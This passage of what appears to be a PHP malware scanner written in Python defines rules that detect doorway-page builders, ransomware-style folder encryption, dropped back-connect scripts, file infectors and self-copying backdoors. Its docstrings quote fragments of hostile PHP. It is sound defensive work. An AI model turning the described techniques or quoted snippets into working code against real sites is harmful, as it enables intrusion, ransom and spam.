    sets the time now, or walks its own folder; a restore gives each file its own time."""
    code = ctx.code
    if _DIR_LISTS.search(code) is None:
        return None
    for start, args in calls_to(ctx, (b"touch",), 20):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        when = parts[1]
        if find(code, b"recursivedirectoryiterator") >= 0 and _fixed_time(ctx, when):
            for m in itertools.islice(re.finditer(
                rb"recursivedirectoryiterator\s*\(([^;]{1,200})", code
            ), 5):
                if _tree_root(ctx, top_args(m.group(1))[0] if top_args(m.group(1)) else b""):
                    return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        for m in itertools.islice(FUNC_DEF.finditer(code, max(0, ctx.first(b"function"))), 100):
            body = braced(code, m.end() - 1)
            span = (m.start(), m.end() - 1 + len(body))
            if not span[0] <= start < span[1] or _DIR_LISTS.search(body) is None:
                continue
            name = m.group(1)
            if not find_calls(body, (name,), 1):
                continue  # no walk into the folders
            outside = [a for at, a in find_calls(code, (name,), 20)
                       if not span[0] <= at < span[1]]
            if not any(top_args(a) and _tree_root(ctx, top_args(a)[0]) for a in outside):
                continue
            given = _fixed_time(ctx, when) or _param_time(
                ctx, when, name, function_params(code, name), outside
            )
            if given:
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# -------------------------------------------------------------------- doorway builders
def _literal_values(ctx: Ctx, expr: bytes, depth: int = 2) -> list[bytes]:
    """The values of the literals of ``expr``, and of those the variables in it are set to
    (``depth`` levels), lower case."""
    value = ctx.lx.value
    out = [value(int(p.group(1))).strip().lower() for p in PLACEHOLDER.finditer(expr)]
    if depth > 0:
        for v in itertools.islice(VAR.finditer(expr), 4):
            for _, m in var_assigns(ctx.code, v.group(1), TAIL_RHS, 3):
                out += _literal_values(ctx, m.group(1), depth - 1)
    return out


# a keyword list read a line at a time: file('kw.txt'), explode("\n", file_get_contents())
_LINES_OF = tight(
    rb"\s*@?\s*(?:file\s*\(|explode\s*\(\s*(?:\x01\d+\x01|php_eol)\s*,\s*@?\s*"
    rb"(?:trim\s*\(\s*)?file_get_contents\s*\()"
)
_FOREACH_OF = tight(rb"foreach\s*\(\s*\$(" + NAME_P + rb")\s+as\s+(?:\$\w+\s*=>\s*)?\$\w+\s*\)")
_PAGE_NAME = tight(rb"(?:^|/)index\.(?:php|html?)$")


@feature("doorway_pages_built")
def _doorway_pages_built(ctx: Ctx, rule: Rule) -> Hit | None:
    """A doorway builder: a loop over a keyword list read a line at a time from a text file
    makes a folder for each keyword (mkdir) and writes a page into it (an index.php or
    index.html, its name written in the script), and the script writes the site's
    robots.txt itself (to point crawlers at the sitemaps it made): spam pages planted
    under the site's name for every keyword. A static site generator writes its pages and
    a sitemap, and leaves robots.txt to the site's owner."""
    code = ctx.code
    robots = -1
    for start, args in calls_to(ctx, (b"file_put_contents", b"fopen"), 40):
        parts = top_args(args)
        if ctx.code.startswith(b"fopen", start) and not (
            len(parts) >= 2 and any(v[:1] in b"waxc" and v for v in _literal_values(ctx, parts[1]))
        ):
            continue  # robots.txt read, not written
        if parts and any(v.endswith(b"robots.txt") for v in _literal_values(ctx, parts[0])):
            robots = start
            break
    if robots < 0:
        return None
    lists = {n for n, _rhs in (
        (m.group(1), m.group(2)) for m in itertools.islice(re.finditer(
            rb"\$(" + NAME_P + rb")\s*=(?![=>])([^;]{1,200});", code), 400)
    ) if _LINES_OF.match(_rhs) is not None}
    if not lists:
        return None
    for m in itertools.islice(_FOREACH_OF.finditer(code), 20):
        if m.group(1) not in lists:
            continue
        body = braced(code, code.find(b"{", m.end())) if code.find(b"{", m.end()) >= 0 else b""
        if not find_calls(body, (b"mkdir",), 1):
            continue
        for _at, args in find_calls(body, (b"file_put_contents", b"fopen"), 20):
            parts = top_args(args)
            if parts and any(_PAGE_NAME.search(v) for v in _literal_values(ctx, parts[0])):
                return Hit(ctx.line_of_code(robots), ctx.excerpt_code(robots, robots + 80))
    return None


# ---------------------------------------------------------------------- file encrypters
_ENCRYPTS = tight(
    rb"(?<![\w$>:])(?:openssl_encrypt|mcrypt_encrypt|sodium_crypto_secretbox|"
    rb"sodium_crypto_aead_\w+_encrypt|openssl_seal)\s*\("
)
_READ_OF = tight(rb"(?:file_get_contents|fread)\s*\(")


def _literal_path(ctx: Ctx, arg: bytes) -> bytes:
    """A path argument as written, its literals' text in place (``"$dir/$e"`` read and
    deleted are two literals of one text)."""
    return PLACEHOLDER.sub(lambda m: ctx.lx.value(int(m.group(1))), arg).strip()


_DECRYPTS = tight(
    rb"(?<![\w$>:])(?:openssl_decrypt|mcrypt_decrypt|sodium_crypto_secretbox_open|"
    rb"sodium_crypto_aead_\w+_decrypt|openssl_open)\s*\("
)
# a call of a function or method by name: plain, or through $this-> / self:: / static::
_OWN_CALL = tight(rb"(?:(?<![\w$>:\\])|(?:->|::)\s*)(" + NAME_P + rb")\s*\(")


def _own_wrapper_call(ctx: Ctx, body: bytes, does: re.Pattern[bytes]) -> int:
    """Where ``body`` calls a function of the file's own whose body does what ``does`` finds
    (an ``encrypt($data, $key)`` that wraps openssl_encrypt), the other way round never
    (a wrapper that both encrypts and decrypts is neither): the offset of the call, or -1."""
    other = _DECRYPTS if does is _ENCRYPTS else _ENCRYPTS
    for m in itertools.islice(_OWN_CALL.finditer(body), 200):
        fn = function_body(ctx, m.group(1))
        if fn is not None and fn != body and does.search(fn) is not None and (
            other.search(fn) is None
        ):
            return m.start()
    return -1


def _encryption_in(ctx: Ctx, body: bytes) -> int:
    """Where ``body`` encrypts: a call of openssl_encrypt (mcrypt, sodium) or of a wrapper of
    the file's own around one; -1 if it does not."""
    enc = _ENCRYPTS.search(body)
    if enc is not None:
        return enc.start()
    if ctx.first(b"function") < 0:
        return -1
    return _own_wrapper_call(ctx, body, _ENCRYPTS)


def _decrypts(ctx: Ctx, body: bytes) -> bool:
    """``body`` decrypts: openssl_decrypt (mcrypt, sodium) or a wrapper of the file's own."""
    return _DECRYPTS.search(body) is not None or _own_wrapper_call(ctx, body, _DECRYPTS) >= 0


def _encrypts_in_place(ctx: Ctx, body: bytes) -> int:
    """Where ``body`` encrypts a file it read (openssl_encrypt, mcrypt, sodium, or a wrapper
    of the file's own around one: ``encrypt($code, $key)``) and writes the result over it,
    or next to it with the original deleted: the offset of the encryption in ``body``, or
    -1. A copy written elsewhere (a backup) keeps the original."""
    enc_at = _encryption_in(ctx, body)
    if enc_at < 0 or _READ_OF.search(body) is None:
        return -1
    writes = find_calls(body, (b"file_put_contents", b"fwrite", b"fputs"), 10)
    if not writes:
        return -1
    reads = find_calls(body, (b"file_get_contents",), 10)
    read = {_literal_path(ctx, top_args(args)[0]) for _at, args in reads if top_args(args)}
    # the original deleted, or the encrypted text written over the file it read (not a
    # stale copy of the output removed first)
    wiped = any(
        top_args(args) and _literal_path(ctx, top_args(args)[0]) in read
        for _at, args in writes + find_calls(body, (b"unlink",), 10)
    )
    return enc_at if wiped else -1


def _calls_itself(body: bytes, name: bytes) -> bool:
    """``body`` calls the function or method ``name``: plainly or through ``$this->``."""
    return any(m.group(1) == name for m in _OWN_CALL.finditer(body))


@feature("walk_encrypt")
def _walk_encrypt(ctx: Ctx, rule: Rule) -> Hit | None:
    """Ransomware: a function of the file's own that walks folders (and calls itself on each,
    plainly or as ``$this->walk()``) or a loop over what a walk found reads each file,
    encrypts it (openssl_encrypt, mcrypt, sodium) and writes the result over it or next to it
    while deleting the original, itself or through a helper of the file's own it hands each
    file to (``lock_file($path)``, ``$this->seal($path)``): the site's files locked for a
    ransom. A backup tool encrypts one archive it made, or copies each file encrypted
    elsewhere; a vault encrypts what is uploaded to it, not the files it finds; a key
    rotation's helper decrypts each file before it encrypts it again."""
    code = ctx.code
    scopes: list[bytes] = []
    for m in itertools.islice(FUNC_DEF.finditer(code, max(0, ctx.first(b"function"))), 100):
        body = braced(code, m.end() - 1)
        if _DIR_LISTS.search(body) is not None and _calls_itself(body, m.group(1)):
            scopes.append(body)
    scopes.extend(body for _m, body in _walk_loops(ctx))
    for body in scopes:
        at = _encrypts_in_place(ctx, body)
        if at >= 0:
            start = find(code, body) + at
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        # each file handed to a helper of the file's own that encrypts it in place
        for name in dict.fromkeys(m.group(1) for m in _OWN_CALL.finditer(body)):
            helper = function_body(ctx, name)
            if helper is None or helper == body or _decrypts(ctx, helper):
                continue
            at = _encrypts_in_place(ctx, helper)
            if at >= 0:
                start = find(code, helper) + at
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# a decoder given one literal, its text assigned: $perl = base64_decode('IyEvdXNy...')
_DECODED_INTO = tight(
    rb"\$(" + NAME_P + rb")\s*=\s*@?\s*(base64_decode|str_rot13|strrev|hex2bin)\s*\(\s*"
    rb"\x01(\d+)\x01\s*\)\s*;"
)
# a script's first line naming the interpreter that runs it: #!/usr/bin/perl, #!/bin/sh
_SHEBANG = tight(rb"#![^\n]{0,60}?\b(perl|python[\d.]*|ruby|bash|sh)\b")
_SCRIPT_WRITES = (b"fwrite", b"fputs", b"file_put_contents")


@feature("decoded_script_run")
def _decoded_script_run(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script of another language (its ``#!`` line names Perl, Python, Ruby or a shell)
    decoded from a literal (base64, rot13, reversed, hex), written to a file under a name the
    PHP code writes out, and that file run by a command line that names it
    (``shell_exec('perl PL-Symlink.pl')``, ``system("python bc.py $ip $port")``): a tool the
    page carries hidden (a symlinker, a back-connect, a mass defacer) dropped and started.
    A site's installer writes its scripts as they are."""
    code = ctx.code
    value = ctx.lx.value
    for m in itertools.islice(prefiltered_finditer(_DECODED_INTO, code, ctx.first), 20):
        text = _unhide(m.group(2), value(int(m.group(3))))
        shebang = _SHEBANG.match(text.lstrip()[:80])
        if shebang is None:
            continue
        var = m.group(1)
        for start, args in calls_to(ctx, _SCRIPT_WRITES, 20):
            if start < m.end():
                continue
            parts = top_args(args)
            data = VAR.fullmatch(parts[1].strip()) if len(parts) >= 2 else None
            if data is None or data.group(1) != var:
                continue
            path = parts[0]
            if not code.startswith(b"file_put_contents", start):
                opened = opened_for(ctx, start, parts[0])
                if opened is None or opened[1] not in (b"w", b"a", b"x", b"c"):
                    continue
                path = opened[0]
            lit = PLACEHOLDER.fullmatch(path.strip())
            if lit is None:
                continue
            name = value(int(lit.group(1))).strip().lower().rsplit(b"/", 1)[-1]
            if len(name) < 3:
                continue
            for run, run_args in calls_to(ctx, EXEC_NAMES_B, 20):
                said = b" ".join(
                    value(int(p.group(1))).lower()
                    for p in itertools.islice(PLACEHOLDER.finditer(run_args), 10)
                )
                if said.find(name) >= 0:
                    return Hit(ctx.line_of_code(run), ctx.excerpt_code(run, run + 80))
    return None


# ------------------------------------------------------------------ file infectors
# what reads a file's whole text: the old text a prepend keeps
_WHOLE_READ = tight(rb"^\s*@?\s*(?:file_get_contents|implode\s*\(\s*\x01\d+\x01\s*,\s*file)\s*\(")
_COMMENTS = tight(rb"/\*.*?\*/|(?://|#)[^\n]*", re.S)
_CALL_OR_VAR = tight(rb"[\w\]\)]\s*\(|\$\w")
_DECODING = (b"base64_decode", b"str_rot13", b"gzinflate", b"gzuncompress", b"hex2bin",
             b"strrev", b"convert_uudecode", b"urldecode", b"rawurldecode")  # fmt: skip


def _php_code_literal(value: bytes) -> bool:
    """A literal that starts PHP code and does something: past ``<?php`` and its comments, a
    call or a variable (a license header is a comment only)."""
    low = value.lower()
    at = low.find(b"<?php")
    if at < 0:
        return False
    rest = _COMMENTS.sub(b"", low[at + 5 :])
    return _CALL_OR_VAR.search(rest) is not None


def _code_piece(ctx: Ctx, piece: bytes, depth: int = 2) -> bool:
    """``piece`` (one of the texts glued into what a file is written with) is code from
    outside the file being written: request input, something decoded, a literal of PHP code
    that does something, or a variable set to one of those."""
    if UIN_RE.search(piece) is not None or any(piece.find(d) >= 0 for d in _DECODING):
        return True
    for p in itertools.islice(PLACEHOLDER.finditer(piece), 6):
        if _php_code_literal(ctx.lx.raw_strings[int(p.group(1))]):
            return True
    if depth == 0:
        return False
    for var in VAR.findall(piece)[:3]:
        for _pos, m in var_assigns(ctx.code, var, TAIL_RHS, 4):
            if _code_piece(ctx, m.group(1), depth - 1):
                return True
    return False


def _old_text(body: bytes, piece: bytes) -> bool:
    """``piece`` is a file's text read whole in ``body``: ``file_get_contents(...)`` itself,
    or a variable ``body`` sets so."""
    if _WHOLE_READ.match(piece) is not None:
        return True
    v = VAR.fullmatch(piece.strip())
    if v is None:
        return False
    return any(_WHOLE_READ.match(m.group(1)) is not None
               for _, m in var_assigns(body, v.group(1), TAIL_RHS, 3))  # fmt: skip


@per_file("walk-bodies")
def _walk_bodies(ctx: Ctx) -> list[bytes]:
    """The bodies of the loops over what a walk of the folders found and of the walking
    functions: what the infector and self-copier rules both read (once a file)."""
    bodies = [body for _m, body in itertools.islice(_walk_loops(ctx, helpers=True), 20)]
    return bodies + list(_recursive_walkers(ctx).values())[:20]


@feature("files_prepended")
def _files_prepended(ctx: Ctx, rule: Rule) -> Hit | None:
    """An infector: in a walk of the folders (a loop over glob(), scandir() or a recursive
    iterator, or a function that walks), each file found read whole and written back with
    code glued before or after its text (``file_put_contents($f, $inject . $src)``, or
    ``fopen($f, 'w')`` and ``fwrite($h, $code . $old)``), the code request input, decoded, or
    a literal of PHP that does something: every page of the site then runs the attacker's
    line, and cleaning one file leaves the rest. A build tool that adds a license comment
    glues a comment only."""
    for body in _walk_bodies(ctx):
        writes = find_calls(body, (b"file_put_contents", b"fwrite", b"fputs"), 20)
        for at, args in writes:
            parts = top_args(args)
            if len(parts) < 2:
                continue
            pieces = [p.strip() for p in split_top(parts[1], b".")]
            if len(pieces) < 2:
                continue
            old = [p for p in pieces if _old_text(body, p)]
            if not old or not any(_code_piece(ctx, p) for p in pieces if p not in old):
                continue
            start = ctx.code.find(body) + at
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# the script's own text or path: what a self-copier writes or copies
_OWN_TEXT = tight(
    rb"(?:file_get_contents|file|fopen|readfile)\s*\(\s*(?:__file__|\$_server\s*\[\s*\x01\d+\x01\s*\])"
)
_OWN_PATH = tight(rb"^\s*(?:__file__|\$_server\s*\[\s*\x01(\d+)\x01\s*\])\s*$")


def _own_path(ctx: Ctx, expr: bytes) -> bool:
    m = _OWN_PATH.match(expr)
    if m is None:
        return False
    return m.group(1) is None or ctx.lx.value(int(m.group(1))).lower() in (
        b"script_filename", b"php_self", b"script_name",
    )  # fmt: skip


@feature("self_spread")
def _self_spread(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that copies itself into folder after folder: in a walk of the folders, its
    own file copied (``copy(__FILE__, $dir . '/x.php')``) or its own text written
    (``file_put_contents($name, $me)`` with ``$me = file_get_contents(__FILE__)``): a
    backdoor that leaves copies everywhere, so that deleting the one found leaves the
    others. A protector copies a blank index page of its own, not itself."""
    code = ctx.code
    if code.find(b"__file__") < 0 and code.find(b"$_server") < 0:
        return None
    for body in _walk_bodies(ctx):
        for at, args in find_calls(body, (b"copy", b"file_put_contents", b"fwrite"), 20):
            parts = top_args(args)
            if len(parts) < 2:
                continue
            src = parts[0] if body.startswith(b"copy", at) else parts[1]
            own = _own_path(ctx, src) if body.startswith(b"copy", at) else False
            if not own:
                texts = [src]
                v = VAR.fullmatch(src.strip())
                if v is not None:
                    texts += [m.group(1) for _, m in var_assigns(code, v.group(1), TAIL_RHS, 4)]
                own = any(_OWN_TEXT.search(t) is not None for t in texts)
            if own:
                start = code.find(body) + at
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None

